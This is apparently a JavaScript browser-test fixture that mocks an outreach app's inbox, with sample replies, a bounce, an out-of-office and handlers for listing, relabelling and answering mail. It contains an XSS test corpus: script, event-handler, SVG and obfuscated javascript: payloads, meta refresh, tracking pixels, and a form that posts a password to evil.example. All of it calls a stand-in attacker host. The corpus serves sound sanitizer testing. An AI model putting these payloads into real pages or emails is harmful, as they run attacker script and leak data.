// The engine's inbox at the Tauri IPC boundary, for browser tests: a synced mailbox whose messages are an
// interested reply with a link and a remote image, a hard bounce, an out-of-office with its return date, and
// an XSS corpus (scripts, event handlers, svg, javascript: links, CSS that hides text, meta refresh, base
// href, remote images in src/srcset/background, iframes, forms, objects). Each hostile message has the HTML
// the engine's sanitizer returns and the raw HTML it was sent with: `window.__reachMock.inbox.raw = true`
// makes inbox_message answer with the raw HTML, so the frame's sandbox and policy alone are tested.
// inbox_reply answers as the engine's gate would: a suppressed address (`window.__reachMock.inbox.suppressed`)
// blocks the answer; otherwise it is sent from the message's account, ends its thread and marks it done.
// Installed after installMockEngine and installMockSending. Passed to page.addInitScript: self-contained.

export function installMockInbox(options) {
  const opts = Object.assign({ syncMs: 150 }, options || {});
  const mock = window.__reachMock;
  const { commands, emit, stamp } = mock;
  const S = mock.fixtures.sending;
  const EVIL = "https://evil.example";
  const PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=";
  // What every hostile script would do if it ran: a dialog, a changed title in the window, a request out.
  const RUN = "alert('xss');parent.document.title='pwned';fetch('" + EVIL + "/ran')";

  const inbox = { raw: false, items: [], messages: new Map(), synced: false, ids: 1, suppressed: [], attempts: 500 };
  mock.inbox = inbox;

  const account = Object.assign({ imap_paused_reason: null, imap_error: null, imap_synced_at: null, sent_folder: null, imap_extra_folders: [] }, S.account, {
    id: 1, workspace_id: 1, paused_reason: null, imap_synced_at: "2026-12-07T08:55:00Z", sent_folder: "[Gmail]/Sent Mail",
  });
  for (const k of ["allowance_today", "sent_today", "days_sent"]) delete account[k];
  mock.sending.accounts.push(account);
  mock.sending.passwords.add(1);
  mock.sending.ids.account = 2;

  function add(item, message) {
    const id = inbox.ids++;
    const full = Object.assign(
      {
        id, account_id: 1, account_email: account.email, campaign_id: 1, campaign_name: "Q1 SaaS founders", lead_id: id, lead_name: null,
        from_address: null, from_name: null, subject: "", snippet: "", received_at: `2026-12-07T08:${String(59 - id).padStart(2, "0")}:00Z`,
        kind: "reply", category: "other", category_source: "rules", state: "open", snoozed_until: null, attachment_count: 0, return_date: null, effect: null,
      },
      item,
    );
    inbox.items.push(full);
    inbox.messages.set(id, Object.assign({ to: account.email, text: null, html: null, raw: null, html_with_images: null, blocked_images: 0, attachments: [], bounce: null, thread: [] }, message));
    return full;
  }
  const sent = (id, subject, text) => ({ direction: "sent", id, subject, from: account.email, at: "2026-12-05T10:12:00Z", text, current: false });

  add(
    { from_address: "ada.lovelace0@northwind.com", from_name: "Ada Lovelace", lead_name: "Ada Lovelace", subject: "Re: Quick question about Northwind", snippet: "Sounds good, let's talk next week. Here is our pricing page…", category: "interested", effect: "Sequence stopped in Q1 SaaS founders" },
    {
      text: "Sounds good, let's talk next week.",
      html: '<p>Sounds good, let\'s talk next week.</p><p>Here is <a href="https://globex.example/pricing" rel="noopener noreferrer">our pricing</a>.</p><p>Ada</p>',
      html_with_images: '<p>Sounds good, let\'s talk next week.</p><p>Here is <a href="https://globex.example/pricing" rel="noopener noreferrer">our pricing</a>.</p><p><img src="https://cdn.globex.example/signature.png" alt="Globex" width="120" height="40"></p><p>Ada</p>',
      blocked_images: 1,
      thread: [sent(1, "Quick question about Northwind", "Hi Ada,\n\nI came across Northwind recently. We run SEO audits for B2B SaaS. Worth a chat?\n\nBest,\nSam"), { direction: "received", id: 1, subject: "Re: Quick question about Northwind", from: "ada.lovelace0@northwind.com", at: "2026-12-07T08:11:00Z", text: "Sounds good", current: true }],
    },
  );
  add(
    { from_address: "mailer-daemon@googlemail.com", from_name: "Mail Delivery Subsystem", lead_name: "Grace Hopper", subject: "Delivery Status Notification (Failure)", snippet: "Address not found: grace.hopper1@globex.com", kind: "bounce", category: null, category_source: null, effect: "Address suppressed; Grace Hopper marked bounced in every campaign" },
    {
      text: "** Address not found **\n\nYour message wasn't delivered to grace.hopper1@globex.com because the address couldn't be found, or is unable to receive mail.",
      bounce: { recipients: [{ address: "grace.hopper1@globex.com", status: "5.1.1", action: "failed", hard: true, reason: "user_unknown", diagnostic: "smtp; 550-5.1.1 The email account that you tried to reach does not exist." }], original_message_id: "reach.2@northwind.example", standard: true },
      attachments: [{ name: null, content_type: "message/delivery-status", size: 412 }, { name: "Quick question.eml", content_type: "message/rfc822", size: 3180 }],
    },
  );
  add(
    { from_address: "linus.torvalds2@initech.com", from_name: "Linus Torvalds", lead_name: "Linus Torvalds", subject: "Automatic reply: Quick question", snippet: "I am out of the office until 14 December", kind: "auto_reply", category: null, category_source: null, return_date: "2026-12-14", effect: "Paused until 14 Dec" },
    { text: "I am out of the office until 14 December with limited access to email.\n\nFor urgent matters contact ops@initech.com." },
  );

  // The XSS corpus: [subject, raw HTML as sent, the sanitizer's HTML, remote images it removed].
  const CORPUS = [
    ["Script tags", `<script>${RUN}</script><p>Thanks for reaching out!</p><script src="${EVIL}/x.js"></script>`, "<p>Thanks for reaching out!</p>", 0],
    ["Event handlers", `<body onload="${RUN}"><img src="x" onerror="${RUN}"><p onmouseover="${RUN}">Hover me</p><details open ontoggle="${RUN}"><summary>More</summary></details>`, "<img src=\"x\"><p>Hover me</p><details open><summary>More</summary></details>", 0],
    ["SVG", `<svg onload="${RUN}"><script>${RUN}</script><a href="javascript:${RUN}"><text x="10" y="20">svg link</text></a><image href="${EVIL}/svg.png"/></svg><p>After the svg</p>`, "<p>After the svg</p>", 0],
    ["javascript: links", `<a href="javascript:${RUN}">Click for the deck</a> <a href="jav&#x09;ascript:${RUN}">or here</a> <a href=" JaVaScRiPt:${RUN}">or here</a> <a href="data:text/html,<script>${RUN}</script>">data link</a>`, "<a rel=\"noopener noreferrer\">Click for the deck</a> <a rel=\"noopener noreferrer\">or here</a> <a rel=\"noopener noreferrer\">or here</a> <a rel=\"noopener noreferrer\">data link</a>", 0],
    ["CSS that hides text", `<style>.hide{display:none} body{background:url(${EVIL}/bg.png)}</style><p>Visible line.</p><div class="hide">Hidden line one.</div><div style="display:none">Hidden line two.</div><span style="font-size:0;color:#fff">Hidden line three.</span><div style="background-image:url(${EVIL}/inline.png)">Styled</div>`, "<p>Visible line.</p><div class=\"hide\">Hidden line one.</div><div>Hidden line two.</div><span>Hidden line three.</span><div>Styled</div>", 0],
    ["Meta refresh and base", `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><base href="${EVIL}/"><p>Read <a href="/relative/path">this</a>.</p><link rel="stylesheet" href="${EVIL}/s.css"><link rel="prefetch" href="${EVIL}/prefetch">`, "<p>Read <a href=\"/relative/path\" rel=\"noopener noreferrer\">this</a>.</p>", 0],
    ["Remote images", `<p>Tracking pixels:</p><img src="${EVIL}/pixel.gif" width="1" height="1"><img src="//evil.example/protocol-relative.gif"><img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x"><table background="${EVIL}/table.png"><tr><td>cell</td></tr></table><picture><source srcset="${EVIL}/source.webp"><img src="${PNG}" alt="inline"></picture><video poster="${EVIL}/poster.png"></video>`, `<p>Tracking pixels:</p><img width="1" height="1"><img><img><table><tr><td>cell</td></tr></table><img src="${PNG}" alt="inline">`, 5],
    ["Frames, forms and objects", `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><form action="${EVIL}/steal" method="post"><input name="password" value="secret"><button type="submit" autofocus>Send</button></form><object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.swf"><audio src="${EVIL}/a.mp3" autoplay></audio>`, "Send", 0],
  ];
  CORPUS.forEach(([name, raw, clean, blocked], i) =>
    add(
      { from_address: `attacker${i}@evil.example`, from_name: `XSS: ${name}`, lead_id: null, lead_name: null, campaign_id: null, campaign_name: null, subject: `XSS corpus: ${name}`, snippet: name, category: i % 2 ? "question" : "other" },
      { html: clean, raw, blocked_images: blocked, text: name },
    ),
  );

  function matches(i, q) {
    return (
      (q.state === null ? i.state === "open" || (i.state === "snoozed" && i.snoozed_until <= stamp()) : i.state === q.state) &&
      (q.kind === null || i.kind === q.kind) &&
      (q.category === null || i.category === q.category) &&
      (q.campaign_id === null || i.campaign_id === q.campaign_id) &&
      (q.account_id === null || i.account_id === q.account_id) &&
      (q.search === null || [i.subject, i.snippet, i.from_address, i.from_name].join(" ").toLowerCase().includes(q.search.toLowerCase()))
    );
  }
  function counts() {
    const map = new Map();
    for (const i of inbox.items.filter((x) => x.state === "open")) {
      const category = i.kind === "reply" ? i.category : null;
      const key = `${i.kind}:${category}`;
      if (!map.has(key)) map.set(key, { kind: i.kind, category, count: 0 });
      map.get(key).count++;
    }
    return [...map.values()];
  }
  const changed = () => emit("data-changed", { entity: "inbox", workspace_id: 1 });
  const item = (id) => inbox.items.find((x) => x.id === id);

  Object.assign(commands, {
    inbox_list: ({ query }) => {
      const list = inbox.items.filter((i) => matches(i, query)).sort((a, b) => b.received_at.localeCompare(a.received_at));
      const offset = query.offset || 0;
      return { items: list.slice(offset, offset + (query.limit || list.length)), total: list.length, counts: counts() };
    },
    inbox_message: ({ id, allow_remote_images }) => {
      const m = inbox.messages.get(id);
      const html = inbox.raw && m.raw ? m.raw : allow_remote_images && m.html_with_images ? m.html_with_images : m.html;
      return {
        item: item(id), to: m.to, date: item(id).received_at, message_id: `<m${id}@mail.example>`, text: m.text, html,
        blocked_images: allow_remote_images ? 0 : m.blocked_images, attachments: m.attachments, bounce: m.bounce, thread: m.thread,
      };
    },
    inbox_relabel: ({ id, category }) => {
      Object.assign(item(id), { category, category_source: "user", kind: "reply" });
      changed();
      return Object.assign({}, item(id));
    },
    inbox_set_state: ({ id, state, snoozed_until }) => {
      Object.assign(item(id), { state, snoozed_until: state === "snoozed" ? snoozed_until : null });
      changed();
      return Object.assign({}, item(id));
    },
    inbox_reply: ({ id, body }) => {
      const it = item(id);
      if (it.kind === "bounce" || it.campaign_id === null || it.lead_id === null) {
        throw { code: "validation", message: `message ${id} is not tied to a campaign and a lead Reach wrote to; answer it from your mail program` };
      }
      const subject = /^re:/i.test(it.subject) ? `Re: ${it.subject.slice(3).trimStart()}` : `Re: ${it.subject}`;
      const blocked = inbox.suppressed.includes(it.from_address);
      const at = stamp();
      const attempt = {
        id: inbox.attempts++, campaign_id: it.campaign_id, lead_id: it.lead_id, step: -1, dry_run: false, idempotency_key: `reply-${id}-1`,
        recipient: it.from_address, lead_name: it.lead_name, account_id: it.account_id, sender: blocked ? null : it.account_email,
        message_id: blocked ? null : `<answer-${id}@northwind.example>`, subject, status: blocked ? "blocked" : "sent", tries: blocked ? 0 : 1,
        scheduled_at: at, started_at: blocked ? null : at, sent_at: blocked ? null : at, smtp_code: blocked ? null : 250, smtp_reply: blocked ? null : "2.0.0 OK",
        detail: blocked ? `${it.from_address} is on the suppression list` : null, legal_basis: "legitimate_interest", resolution: null,
        blocked_by: blocked ? "suppression" : null, answer_to: id, updated_at: at,
      };
      if (!blocked) {
        inbox.messages.get(id).thread.push({ direction: "sent", id: attempt.id, subject, from: it.account_email, at, text: `${body}\n\n${account.signature || ""}`, current: false });
        it.state = "done";
      }
      changed();
      emit("data-changed", { entity: "outbox", workspace_id: 1 });
      return attempt;
    },
    inbox_sync: () =>
      new Promise((resolve) =>
        setTimeout(() => {
          const fresh = add(
            { from_address: "margaret.hamilton3@umbrellalabs.com", from_name: "Margaret Hamilton", lead_name: "Margaret Hamilton", subject: "Re: Quick question", snippet: "Who handles SEO at your end? Please reach out to our CMO.", category: "referral", received_at: "2026-12-07T09:05:00Z" },
            { text: "Thanks Sam. Please reach out to Dana, our CMO, at dana@umbrellalabs.com: she handles this." },
          );
          account.imap_synced_at = stamp();
          changed();
          resolve({ accounts: [{ account_id: 1, email: account.email, new_messages: 1, replies: fresh ? 1 : 0, bounces: 0, auto_replies: 0, error: null, paused: null }] });
        }, opts.syncMs),
      ),
    account_test_imap: () => ({ greeting: "* OK Gimap ready for requests", capabilities: ["IMAP4rev1", "UNSELECT", "IDLE", "NAMESPACE", "SPECIAL-USE", "UIDPLUS"], tls: true, authenticated: true, folders: ["INBOX", "[Gmail]/Sent Mail", "[Gmail]/Spam"] }),
  });
}
